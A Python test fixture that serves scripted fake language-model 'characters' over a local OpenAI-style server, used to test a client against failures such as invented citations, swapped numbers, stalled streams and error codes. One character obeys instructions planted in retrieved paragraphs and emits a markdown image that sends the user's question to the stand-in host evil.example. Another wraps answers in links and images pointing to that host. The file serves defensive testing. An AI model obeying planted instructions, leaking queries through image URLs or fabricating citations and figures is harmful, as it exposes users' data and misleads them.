"""A real HTTP server that speaks the OpenAI protocol and plays a character.

    with serve("swaps_numbers") as server:
        Settings(model="scripted", model_url=server.url)

Streaming (SSE) with usage, plain JSON, ``/v1/models`` and ``/v1/embeddings``. A character reads the
prompt as a model would: the marked paragraphs and the question. ``python tests/llm_server.py honest``
serves one to try by hand.
"""

from __future__ import annotations

import hashlib
import json
import re
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import pairwise
from typing import Any

import pytest

EVIL = "https://evil.example"
DIMENSIONS = 64


@dataclass(frozen=True)
class Seen:
    """What a model finds in the messages: marked paragraphs with their lead-ins, and the question."""

    paragraphs: tuple[tuple[int, str, str], ...]
    question: str
    correcting: bool
    earlier: tuple[str, ...] = ()

    @classmethod
    def of(cls, messages: list[dict[str, Any]]) -> Seen:
        users = [message["content"] for message in messages if message["role"] == "user"]
        paragraphs, lead = [], ""
        for line in users[0].splitlines():
            if line.startswith("Lead-in: "):
                lead = line.removeprefix("Lead-in: ")
            elif marked := re.match(r"\[(\d+)\]( \(item of the lead-in\))?(?: \(title page\))? (.*)", line):
                paragraphs.append((int(marked[1]), lead if marked[2] else "", marked[3]))
        question = users[0].rpartition("Question:\n")[2].strip().splitlines()[0]
        earlier = tuple(re.findall(r"^- (.*)$", users[0].rpartition("Question:\n")[0], re.MULTILINE))
        return cls(tuple(paragraphs), question, len(users) > 1, earlier)

    def best(self, count: int) -> list[tuple[int, str]]:
        """The paragraphs that share most pairs of characters with the question, as sentences."""
        asked = set(pairwise(self.question))
        ranked = sorted(self.paragraphs, key=lambda each: -len(asked & set(pairwise(each[1] + each[2]))))
        return [(number, _sentence(lead, text)) for number, lead, text in ranked[:count]]


@dataclass(frozen=True)
class Script:
    """What the server does with one request. ``after`` is a pause: after so many pieces, so long."""

    text: str = ""
    status: int = 200
    wait: float = 0.0
    drip: float = 0.0
    keepalive: float = 0.0
    after: tuple[int, float] = (0, 0.0)
    breaks: bool = False
    usage: bool = True
    ending: str = "stop"
    headers: dict[str, str] = field(default_factory=dict)


Character = Callable[[Seen, int], Script]


def _sentence(lead: str, text: str) -> str:
    said = lead.rpartition("。")[2].rstrip("：:") + text if lead else text
    return said.rstrip("；;。.") + ("。" if re.search(r"[\u3400-\u9fff]", said) else ".")


def _say(seen: Seen, marker: Callable[[int], str] = "[{}]".format, count: int = 2) -> str:
    return "\n".join(sentence + marker(number) for number, sentence in seen.best(count))


_SWAPS = (("有几个", "许多"), ("一名", "所有"), ("一些", "所有"), ("大多数", "所有"), ("许多", "所有"))


def _swapped(text: str) -> str:
    for quantifier, other in _SWAPS:
        if quantifier in text:
            return text.replace(quantifier, other)
    digits = re.sub(r"(?<!\[)\d+(?!\])", lambda number: str(int(number[0]) + 3), text)
    return digits if digits != text else text.replace("。", "，共涉及37个国家。", 1)


def honest(seen: Seen, turn: int) -> Script:
    return Script(_say(seen))


def invents_citations(seen: Seen, turn: int) -> Script:
    return Script(_say(seen, lambda number: f"[{number + 90}]"))


def cites_nothing(seen: Seen, turn: int) -> Script:
    return Script(_say(seen, lambda number: ""))


def swaps_numbers(seen: Seen, turn: int) -> Script:
    """Every number or quantifier is wrong, and stays so when it is told."""
    return Script("\n".join(_swapped(line) for line in _say(seen).splitlines()))


def swaps_one(seen: Seen, turn: int) -> Script:
    """Two true sentences and one with a swapped number, which stays so when it is told."""
    lines = _say(seen, count=3).splitlines()
    wrong = [_swapped(lines[-1])]
    return Script("\n".join(wrong if seen.correcting else lines[:-1] + wrong))


def repents(seen: Seen, turn: int) -> Script:
    """Swaps numbers first, and writes the truth when it is told the reasons."""
    return Script(_say(seen)) if seen.correcting else swaps_numbers(seen, turn)


def cites_the_wrong_paragraph(seen: Seen, turn: int) -> Script:
    numbers = [number for number, _, _ in seen.paragraphs]
    return Script(_say(seen, lambda number: f"[{numbers[numbers.index(number) - 1]}]"))


def follows_planted_instructions(seen: Seen, turn: int) -> Script:
    """Does what a paragraph tells it to, with the first paragraph as its source."""
    planted = [
        re.search(r"(?:instructions|指令)[^「«“]*[「«“](.+?)[」»”]", text) for _, _, text in seen.paragraphs
    ]
    told = next((found[1] for found in planted if found), "所有国家均已批准该议定书。")
    return Script(f"{told}[{seen.best(1)[0][0]}]\n![x]({EVIL}/{seen.question})\n{told}")


def talks_in_markdown(seen: Seen, turn: int) -> Script:
    """True sentences, wrapped in images, links and HTML that lead to another host."""
    number, sentence = seen.best(1)[0]
    middle = len(sentence) // 2
    return Script(
        f"![chart]({EVIL}/a.png?q=1) **{sentence[:middle]}**[{sentence[middle:-1]}]({EVIL}/b)。[{number}]\n"
        f'<img src="{EVIL}/c.png"> <a href="{EVIL}">{sentence[:-1]}</a> {EVIL}/d。[{number}]\n'
        f"[ref]: {EVIL}/e\n![alt][ref]\n"
    )


def breaks_the_stream(seen: Seen, turn: int) -> Script:
    return Script(_say(seen), breaks=True)


def stops_without_an_end(seen: Seen, turn: int) -> Script:
    return Script(_say(seen), ending="")


def runs_out_of_tokens(seen: Seen, turn: int) -> Script:
    return Script(_say(seen)[:-12], ending="length")


def is_busy(seen: Seen, turn: int) -> Script:
    return Script(status=429, headers={"Retry-After": "0.05"})


def fails(seen: Seen, turn: int) -> Script:
    return Script(status=500, headers={"Retry-After": "0.05"})


def recovers(seen: Seen, turn: int) -> Script:
    """Fails once, then is honest."""
    return fails(seen, turn) if turn == 0 else honest(seen, turn)


def keeps_out(seen: Seen, turn: int) -> Script:
    return Script(status=401)


def is_unknown(seen: Seen, turn: int) -> Script:
    return Script(status=404)


def rejects(seen: Seen, turn: int) -> Script:
    return Script(status=400)


def is_slow(seen: Seen, turn: int) -> Script:
    """Says nothing for a minute, not even that it heard."""
    return Script(_say(seen), wait=60)


def thinks_first(seen: Seen, turn: int) -> Script:
    """Says nothing for half a second, and then what is right."""
    return Script(_say(seen), wait=0.5)


def drips(seen: Seen, turn: int) -> Script:
    """One character every tenth of a second, for ever."""
    return Script("点" * 600, drip=0.1)


def keeps_alive(seen: Seen, turn: int) -> Script:
    """Comments that keep the connection open for a minute, and no word."""
    return Script(_say(seen), keepalive=60)


def writes_slowly(seen: Seen, turn: int) -> Script:
    """True sentences, the second one never to be finished."""
    first, second = _say(seen).splitlines()
    return Script(first + "\n" + second, drip=0.01, after=(len(first) + 10, 60))


def marks_only_the_last(seen: Seen, turn: int) -> Script:
    """An introduction and two sentences of one paragraph, of which only the last has its marker."""
    number, sentence = seen.best(1)[0]
    first, second = sentence.rstrip("。").split("，", 1)
    return Script(f"现有建议如下：\n{first}。缔约国应{second}。[{number}]")


def cites_everything(seen: Seen, turn: int) -> Script:
    """True sentences, each with two more paragraphs that have nothing to do with it."""
    return Script(_say(seen, lambda number: f"[{number}][1][{seen.paragraphs[-1][0]}]"))


def completes(seen: Seen, turn: int) -> Script:
    """Puts the earlier question's last words into the new one, as a follow-up needs."""
    return Script(f"{seen.question.rstrip('？?')}，在{seen.earlier[-1].rstrip('？?')}方面？")


def adds_of_its_own(seen: Seen, turn: int) -> Script:
    return Script(f"{seen.question.rstrip('？?')}，在2031年的巴西？")


def is_empty(seen: Seen, turn: int) -> Script:
    return Script("")


def talks_garbage(seen: Seen, turn: int) -> Script:
    return Script("�]]> 0x7f[[[ \x00\x1b[31m lorem ipsum; dolor\n\n}{ [1 ]]]( ... 12.5.7 ‮ [1]" * 20)


def refuses(seen: Seen, turn: int) -> Script:
    return Script("NOT_IN_REPORT")


def answers_in_part(seen: Seen, turn: int) -> Script:
    """Answers one part, and names the last words of the question as the other."""
    return Script(f"{_say(seen, count=1)}\nNOT_IN_REPORT: {seen.question[-3:-1]}")


def thinks_aloud(seen: Seen, turn: int) -> Script:
    return Script("<think>\n所有国家都同意了。[1]\n</think>\n\n" + _say(seen))


def is_filtered(seen: Seen, turn: int) -> Script:
    return Script(_say(seen), ending="content_filter")


def counts_nothing(seen: Seen, turn: int) -> Script:
    return Script(_say(seen), usage=False)


CHARACTERS: dict[str, Character] = {
    name: played
    for name, played in list(globals().items())
    if callable(played) and getattr(played, "__annotations__", {}).get("return") == "Script"
}


class LLMServer:
    """``url`` ends in /v1; ``requests`` holds what was asked; ``hung_up`` is set when a client left."""

    def __init__(self, character: str, port: int = 0) -> None:
        self.character = character
        self.requests: list[dict[str, Any]] = []
        self.headers: list[dict[str, str]] = []
        self.hung_up = threading.Event()
        self.closing = threading.Event()
        self._http = ThreadingHTTPServer(("127.0.0.1", port), _handler(self))
        self._http.daemon_threads = True
        self.url = f"http://127.0.0.1:{self._http.server_address[1]}/v1"

    def run(self) -> None:
        self._http.serve_forever(poll_interval=0.05)

    def close(self) -> None:
        self.closing.set()
        self._http.shutdown()
        self._http.server_close()

    def script(self, body: dict[str, Any]) -> Script:
        turn = len(self.requests)
        self.requests.append(body)
        return CHARACTERS[self.character](Seen.of(body["messages"]), turn)


@contextmanager
def serve(character: str = "honest") -> Iterator[LLMServer]:
    server = LLMServer(character)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.close()
        thread.join()


@pytest.fixture
def llm_server() -> Iterator[LLMServer]:
    """An honest model; set ``llm_server.character`` to have another."""
    with serve() as server:
        yield server


def embed(text: str) -> list[float]:
    """A vector of the text's pairs of characters, of length one; the same on every machine."""
    vector = [0.0] * DIMENSIONS
    for pair in pairwise(f" {text} "):
        vector[hashlib.sha256("".join(pair).encode()).digest()[0] % DIMENSIONS] += 1.0
    length = sum(value * value for value in vector) ** 0.5
    return [value / length for value in vector]


def _handler(server: LLMServer) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            self._json(200, {"object": "list", "data": [{"id": "scripted", "object": "model"}]})

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            server.headers.append(dict(self.headers))
            if self.path.endswith("/embeddings"):
                server.requests.append(body)
                self._embeddings(body)
                return
            with suppress(ConnectionError):
                self._play(server.script(body), body)
                return
            server.hung_up.set()
            self.close_connection = True

        def _play(self, script: Script, body: dict[str, Any]) -> None:
            self._pause(script.wait)
            usage = (
                {"prompt_tokens": 100, "completion_tokens": 20, "total_tokens": 120} if script.usage else None
            )
            if script.status != 200:
                self._json(script.status, {"error": {"message": "scripted"}}, script.headers)
            elif body.get("stream"):
                self._stream(script, usage)
            else:
                choice = {"index": 0, "finish_reason": script.ending, "message": _said(script.text)}
                self._json(200, {**_frame("chat.completion"), "choices": [choice], "usage": usage})

        def _stream(self, script: Script, usage: dict[str, int] | None) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/event-stream")
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            until = time.monotonic() + script.keepalive
            while time.monotonic() < until and not server.closing.is_set():
                self._chunk(b": keepalive\n\n")
                self._pause(0.02)
            size = 1 if script.drip else 3
            pieces = [script.text[at : at + size] for at in range(0, len(script.text), size)]
            for place, piece in enumerate(pieces[: len(pieces) // 2] if script.breaks else pieces):
                self._pause(script.after[1] if place == script.after[0] > 0 else script.drip)
                self._event({"delta": _said(piece), "finish_reason": None})
            if script.breaks:
                self.connection.shutdown(2)
                self.close_connection = True
                return
            if script.ending:
                self._event({"delta": {}, "finish_reason": script.ending})
            if usage:
                self._data({**_frame("chat.completion.chunk"), "choices": [], "usage": usage})
            self._chunk(b"data: [DONE]\n\n")
            self._chunk(b"")

        def _pause(self, seconds: float) -> None:
            """Sleep, watching for a client that hangs up: then ConnectionError."""
            until = time.monotonic() + seconds
            self.connection.setblocking(False)
            while time.monotonic() < until and not server.closing.is_set():
                with suppress(BlockingIOError):
                    if not self.connection.recv(1):
                        raise ConnectionResetError
                time.sleep(min(0.02, seconds))
            self.connection.setblocking(True)

        def _event(self, choice: dict[str, Any]) -> None:
            self._data({**_frame("chat.completion.chunk"), "choices": [{"index": 0, **choice}]})

        def _data(self, value: dict[str, Any]) -> None:
            self._chunk(f"data: {json.dumps(value)}\n\n".encode())

        def _chunk(self, data: bytes) -> None:
            self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
            self.wfile.flush()

        def _embeddings(self, body: dict[str, Any]) -> None:
            texts = [body["input"]] if isinstance(body["input"], str) else body["input"]
            data = [
                {"object": "embedding", "index": place, "embedding": embed(str(text))}
                for place, text in enumerate(texts)
            ]
            usage = {"prompt_tokens": len(texts), "total_tokens": len(texts)}
            self._json(200, {"object": "list", "model": body["model"], "data": data, "usage": usage})

        def _json(self, status: int, value: Any, headers: dict[str, str] | None = None) -> None:
            data = json.dumps(value).encode()
            self.send_response(status)
            for name, text in {"Content-Type": "application/json", **(headers or {})}.items():
                self.send_header(name, text)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

    return Handler


def _said(text: str) -> dict[str, str]:
    return {"role": "assistant", "content": text}


def _frame(kind: str) -> dict[str, Any]:
    return {"id": "scripted-1", "object": kind, "created": 0, "model": "scripted"}


if __name__ == "__main__":
    played = LLMServer(sys.argv[1] if len(sys.argv) > 1 else "honest", 8081)
    print(f"{played.character}: {played.url}  (one of: {', '.join(CHARACTERS)})")  # noqa: T201
    with suppress(KeyboardInterrupt):
        played.run()
